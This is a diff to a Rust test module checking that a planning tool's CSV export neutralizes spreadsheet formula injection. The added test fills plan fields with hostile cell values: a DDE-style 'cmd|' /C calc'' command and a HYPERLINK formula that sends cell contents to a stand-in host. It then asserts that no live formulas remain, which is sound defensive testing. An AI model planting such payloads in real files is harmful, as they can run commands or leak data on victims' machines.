@@ -140,8 +140,34 @@ mod tests {
         let a = analyze(&pp.problem, &FrontierOptions::default()).unwrap();
         let csv = export(&plan, &pp, &a);
         assert!(
-            csv.contains("Your package,\"=cmd, \"\"x\"\"\",,10 days,"),
+            csv.contains("Your package,\"'=cmd, \"\"x\"\"\",,10 days,"),
             "{csv}"
         );
+    }
+
+    #[test]
+    fn a_hostile_plan_gives_no_live_formula() {
+        let mut plan = supplier_contract(PlanId::parse("p1").unwrap(), 0);
+        let leads = ["=", "+", "-", "@", "\t", "\r", " =", "\u{0}@"];
+        for (k, issue) in plan.issues.iter_mut().enumerate() {
+            issue.name = format!("{}SUM(1+1)*{k}", leads[k % leads.len()]);
+            for (o, option) in issue.options.iter_mut().enumerate() {
+                option.label = format!(
+                    "{}HYPERLINK(\"https://x.example/\"&A{o})",
+                    leads[o % leads.len()]
+                );
+            }
+        }
+        for (k, party) in plan.parties.iter_mut().enumerate() {
+            party.name = format!("{}cmd|' /C calc'!A{k}", leads[(k + 3) % leads.len()]);
+        }
+        for (k, package) in plan.packages.iter_mut().enumerate() {
+            package.name = format!("{}1+{k}", leads[(k + 5) % leads.len()]);
+        }
+        let pp = PlanProblem::from_plan(&plan);
+        let a = analyze(&pp.problem, &FrontierOptions::default()).unwrap();
+        let csv = export(&plan, &pp, &a);
+        assert!(csv.contains("'=SUM(1+1)*0"), "{csv:.300}");
+        assert_eq!(crate::formats::csv::live_cells(&csv), Vec::<String>::new());
     }
 }
